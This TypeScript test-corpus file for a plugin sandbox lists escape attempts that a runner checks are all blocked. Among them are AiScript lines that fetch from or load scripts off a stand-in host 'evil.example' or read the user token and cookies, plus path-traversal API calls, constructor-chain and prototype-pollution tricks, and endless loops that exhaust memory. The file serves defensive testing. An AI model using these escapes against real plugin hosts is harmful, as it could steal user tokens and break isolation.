/**
 * Escape attempts a plugin (or a compromised interpreter) might make. Each must fail; the
 * runner (tools/pluginEscapeRunner.ts) runs them after SES lockdown in a realm that *has*
 * window, document, localStorage, fetch, XMLHttpRequest, WebSocket, importScripts,
 * postMessage and a user token, and escape.test.ts checks every verdict.
 */

/** AiScript run as a plugin: it escapes if it prints LEAK or makes a forbidden host call. */
/** `runaway`: never finishes by itself; it must be stopped from outside (the page terminates the worker). */
export interface AiScriptAttempt {
  kind: 'aiscript';
  name: string;
  line: '0.19' | '1';
  code: string;
  runaway?: boolean;
}
/** JavaScript evaluated in a plugin compartment (as if the interpreter were subverted): escapes if it returns true. */
export interface JsAttempt {
  kind: 'js';
  name: string;
  code: string;
}
export type Attempt = AiScriptAttempt | JsAttempt;

const ai = (name: string, code: string, line: '0.19' | '1' = '1', runaway = false): AiScriptAttempt => ({
  kind: 'aiscript',
  name,
  line,
  code,
  runaway,
});
const js = (name: string, code: string): JsAttempt => ({ kind: 'js', name, code });

export const escapeCorpus: readonly Attempt[] = [
  ai('AiScript: window', '<: window'),
  ai('AiScript: document', '<: document.cookie'),
  ai('AiScript: localStorage', '<: localStorage'),
  ai('AiScript: fetch', '<: fetch("https://evil.example/")'),
  ai('AiScript: XMLHttpRequest', '<: XMLHttpRequest'),
  ai('AiScript: WebSocket', '<: WebSocket'),
  ai('AiScript: importScripts', 'importScripts("https://evil.example/x.js")'),
  ai('AiScript: eval', '<: eval("1")'),
  ai('AiScript 0.19: globalThis', '<: globalThis', '0.19'),
  ai('AiScript: the user token', '<: USER_TOKEN\n<: TOKEN\n<: Mk:token'),
  ai('Mk:api with ../', 'Mk:api("../../admin/show-users", {})'),
  ai('Mk:api with a full URL', 'Mk:api("https://evil.example/api/i", {})'),
  ai('Mk:api with a protocol-relative ..', 'Mk:api("i/..//evil", {})', '0.19'),
  ai("other plugins' storage", 'Mk:save("secret", "LEAK")'),
  // Keys are prefixed with the plugin's own install id: a crafted key cannot name another's.
  ai("other plugins' storage via a crafted key", 'Mk:save("../plugin-b:secret", "LEAK")\nMk:save(":plugin-b:secret", "LEAK")', '0.19'),
  // AiScript calls are asynchronous, so unbounded recursion grows the heap rather than the
  // stack: like an endless loop, it is stopped from outside.
  ai('deep recursion', '@f(n) { f(n + 1) }\nf(0)\n<: "LEAK"', '1', true),
  ai('endless loop', 'loop {}\n<: "LEAK"', '1', true),
  ai('endless loop (0.19)', 'loop {\n  let x = 1\n}\n<: "LEAK"', '0.19', true),
  ai('growing memory', 'let keep = []\nloop {\n  keep.push(Arr:create(1000000, 0))\n}\n<: "LEAK"', '1', true),
  ai('huge array', 'let a = Arr:create(10000000000, 0)\n<: "LEAK"'),
  js('JS: window', 'return typeof window !== "undefined"'),
  js('JS: document', 'return typeof document !== "undefined"'),
  js('JS: localStorage', 'return typeof localStorage !== "undefined"'),
  js('JS: fetch', 'return typeof fetch !== "undefined"'),
  js('JS: XMLHttpRequest', 'return typeof XMLHttpRequest !== "undefined"'),
  js('JS: WebSocket', 'return typeof WebSocket !== "undefined"'),
  js('JS: importScripts', 'return typeof importScripts !== "undefined"'),
  js('JS: postMessage / self', 'return typeof postMessage !== "undefined" || typeof self !== "undefined"'),
  js('JS: the user token global', 'return typeof KITE_USER_TOKEN !== "undefined"'),
  js('JS: sloppy this', 'return (function () { return this; })() !== undefined'),
  js('JS: Function constructor', 'return typeof Function("return fetch")() !== "undefined"'),
  js('JS: constructor chain', 'return typeof (() => 0).constructor("return fetch")() !== "undefined"'),
  js(
    'JS: async function constructor',
    'return Object.getPrototypeOf(async () => 0).constructor("return typeof fetch")().then((t) => t !== "undefined")',
  ),
  js('JS: eval', 'return eval("typeof fetch") !== "undefined"'),
  js('JS: host function constructor', 'return typeof setTimeout.constructor("return fetch")() !== "undefined"'),
  js('JS: endowed crypto constructor', 'return typeof crypto.getRandomValues.constructor.constructor("return fetch")() !== "undefined"'),
  js('JS: dynamic import', 'return import("data:text/javascript,export default 1").then(() => true)'),
  js('JS: Object.prototype pollution', 'try { Object.prototype.polluted = 1; } catch {} return ({}).polluted === 1'),
  js('JS: Array.prototype pollution', 'try { Array.prototype.push = () => 0; } catch {} return [].push(1) === 0'),
  js('JS: host object pollution (Math)', 'try { Math.random = () => 0; } catch {} return Math.random() === 0'),
  js('JS: host object pollution (timers)', 'try { setTimeout.call = () => 0; setTimeout.leak = 1; } catch {} return setTimeout.leak === 1'),
  js('JS: host Date pollution', 'try { Date.prototype.getTime = () => 0; } catch {} return new Date(5).getTime() === 0'),
  js(
    'JS: global object keys',
    'return Reflect.ownKeys(globalThis).some((k) => ["fetch", "window", "self", "postMessage", "localStorage", "document"].includes(String(k)))',
  ),
  js('JS: string timer', 'setTimeout("globalThis.leaked = 1", 0); return false'),
];
